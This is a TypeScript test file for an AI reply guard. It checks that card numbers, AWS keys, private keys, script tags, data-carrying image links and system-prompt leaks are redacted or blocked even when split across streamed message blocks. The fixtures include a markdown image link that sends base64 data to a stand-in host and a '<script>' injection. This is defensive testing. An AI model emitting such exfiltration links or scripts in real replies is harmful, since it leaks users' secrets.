import { describe, expect, it } from 'vitest';
import { anthropicMessages } from '../../../src/dialects/anthropic-messages/anthropic-messages.ts';
import type { Dialect } from '../../../src/dialects/dialect.ts';
import { openAiChat } from '../../../src/dialects/openai-chat/openai-chat.ts';
import { createGuard } from '../../../src/index.ts';
import { SYSTEM_PROMPT } from './attacked-texts.ts';

const guard = createGuard({ policy: 'balanced' });
const principal = { tenant: 't', user: 'u', session: 's' };
const KEY = 'AKIAIOSFODNN7EXAMPLQ';

const event = (type: string, facts: object): string =>
  `event: ${type}\ndata: ${JSON.stringify({ type, ...facts })}\n\n`;
const text = (words: string): object => ({ type: 'text', text: words });
const tool = { type: 'tool_use', id: 'toolu_1', name: 'look', input: { at: 'sea' } };

/** The same reply, whole and streamed. */
interface Reply {
  readonly body: string;
  readonly events: string;
}

type Say = (texts: readonly string[]) => Reply;

function message(content: readonly object[]): Reply {
  const stop = { stop_reason: 'end_turn', stop_sequence: null };
  const blocks = content.map((block, index) => {
    const { text: words } = block as { readonly text?: string };
    const start = words === undefined ? block : { ...block, text: '' };
    const deltas = [...(words ?? '')].map((unit) =>
      event('content_block_delta', { index, delta: { type: 'text_delta', text: unit } }),
    );
    const stopped = event('content_block_stop', { index });
    return event('content_block_start', { index, content_block: start }) + deltas.join('') + stopped;
  });
  const head = { id: 'msg_1', type: 'message', role: 'assistant', model: 'm' };
  return {
    body: JSON.stringify({ ...head, content, ...stop, usage: { output_tokens: 9 } }),
    events: [
      event('message_start', { message: { ...head, content: [], usage: { output_tokens: 1 } } }),
      ...blocks,
      event('message_delta', { delta: stop, usage: { output_tokens: 9 } }),
      event('message_stop', {}),
    ].join(''),
  };
}

function completion(field: string, items: readonly object[]): Reply {
  const chunk = (delta: object, reason: string | null): string =>
    `data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason: reason }] })}\n\n`;
  const whole = { index: 0, message: { role: 'assistant', content: null, [field]: items }, finish_reason: 'stop' };
  const deltas = items.flatMap((item, index) => {
    const { text: words = '' } = item as { readonly text?: string };
    return [...words].map((unit) => chunk({ [field]: [{ ...item, index, text: unit }] }, null));
  });
  return {
    body: JSON.stringify({ choices: [whole] }),
    events: `${deltas.join('')}${chunk({}, 'stop')}data: [DONE]\n\n`,
  };
}

const between = (texts: readonly string[], block: object): readonly object[] =>
  texts.flatMap((words, at) => (at === 0 ? [text(words)] : [block, text(words)]));
const parts = (texts: readonly string[]): readonly object[] => texts.map(text);

const FORMS: readonly [string, Dialect, Say][] = [
  ['blocks of a message', anthropicMessages, (texts) => message(parts(texts))],
  ['blocks around a call of a tool', anthropicMessages, (texts) => message(between(texts, tool))],
  [
    'blocks around a result',
    anthropicMessages,
    (texts) => message(between(texts, { type: 'mcp_tool_result', tool_use_id: 'm', content: [text('Rain.')] })),
  ],
  ['parts of a completion', openAiChat, (texts) => completion('content', parts(texts))],
  [
    'thoughts of a completion',
    openAiChat,
    (texts) =>
      completion(
        'reasoning_details',
        texts.map((words) => ({ type: 'reasoning.text', text: words })),
      ),
  ],
];

/** All texts that leave, in their order: of a whole reply, and of the stream. */
function saidIn(dialect: Dialect, { body, events }: Reply): readonly [string, string] {
  const open = (): ReturnType<typeof guard.reply> => guard.reply({ principal, systemPrompt: SYSTEM_PROMPT });
  const whole = textsOf(dialect.guardReply(body, open()).body);
  const stream = dialect.openStream(open(), 'req-1');
  const written = stream.push(new TextEncoder().encode(events)) + stream.end();
  expect(stream.withheldChars).toBe(0);
  return [whole.join(''), textsOf(written).join('')];
}

function textsOf(written: string): readonly string[] {
  return [...written.matchAll(/"text":("(?:[^"\\]|\\.)*")/gu)]
    .map(([, json]) => JSON.parse(json ?? '""') as string)
    .filter((words) => words !== 'Rain.');
}

/** What is planted, and what is left of it; or what of it must not be there. */
const PLANTED: readonly [string, string, string | RegExp][] = [
  ['a card number', 'It is 4012-8888-8888-1881 now.', 'It is <CREDIT_CARD> now.'],
  ['a key', `It is ${KEY}, yes.`, 'It is <AWS_ACCESS_KEY>, yes.'],
  [
    'a link that carries data',
    'See ![x](https://collect.example.net/p.png?d=c2VjcmV0IHNlY3JldCBzZWNyZXQgc2VjcmV0) there.',
    /example\.net/u,
  ],
  ['a script', 'So <script>alert(1)</script> is it.', /<script/u],
];

describe.each(FORMS)('%s', (_form, dialect, say) => {
  it.each(PLANTED)('lose %s that is split over two, wherever it is cut', (_name, words, clean) => {
    for (let at = 1; at < words.length; at++) {
      const texts = [words.slice(0, at), words.slice(at)];
      const [whole, streamed] = saidIn(dialect, say(texts));
      expect(streamed).toBe(whole);
      if (typeof clean === 'string') expect(whole, `cut at ${at}`).toBe(clean);
      else expect(whole, `cut at ${at}`).not.toMatch(clean);
    }
  });

  it('lose a key that is split over many', () => {
    for (const said of saidIn(dialect, say(['Here: ', ...KEY, '.']))) expect(said).toBe('Here: <AWS_ACCESS_KEY>.');
  });

  it.each([
    ['behind a letter of the one before', ['Your key is', KEY], 'Your key is<AWS_ACCESS_KEY>'],
    ['before a letter of the one behind', [`Your key is ${KEY}`, 'Keep it'], 'Your key is <AWS_ACCESS_KEY>Keep it'],
    ['between two letters', ['It is', KEY, 'Keep it'], 'It is<AWS_ACCESS_KEY>Keep it'],
    ['in each', [KEY, KEY], '<AWS_ACCESS_KEY><AWS_ACCESS_KEY>'],
  ])('lose a key that one of them holds, %s', (_name, texts, clean) => {
    for (const said of saidIn(dialect, say(texts))) expect(said).toBe(clean);
  });

  it('lose a private key as far as it goes on', () => {
    const body = 'MIIEowIBAAKCAQEA7bq3xk9Vd0GmPq2Zt5Jw\n'.repeat(12);
    const texts = [
      '-----BEGIN RSA PRI',
      `VATE KEY-----\n${body}`,
      body,
      `${body}-----END RSA PRIVATE KEY-----\nthanks`,
    ];
    for (const said of saidIn(dialect, say(texts))) expect(said).toBe('<PRIVATE_KEY>\nthanks');
  });

  it('are blocked where they give the prompt away together', () => {
    const leak = 'Never speak of the manuscript called Amber Tide, and answer in two sentences.';
    for (const at of [20, 40, 60]) {
      const [whole, streamed] = saidIn(dialect, say(['Sure: ', leak.slice(0, at), leak.slice(at)]));
      expect(whole).not.toContain('Amber');
      expect(whole.startsWith('Sure')).toBe(true);
      expect(streamed).toBe(whole);
    }
  });

  it('keep every unit in its place where they are harmless', () => {
    const { body } = say(['Call 4012', ' or see https', '://docs.example.org/a', '. AKIA', '']);
    expect(dialect.guardReply(body, guard.reply({ principal })).body).toBe(body);
  });
});
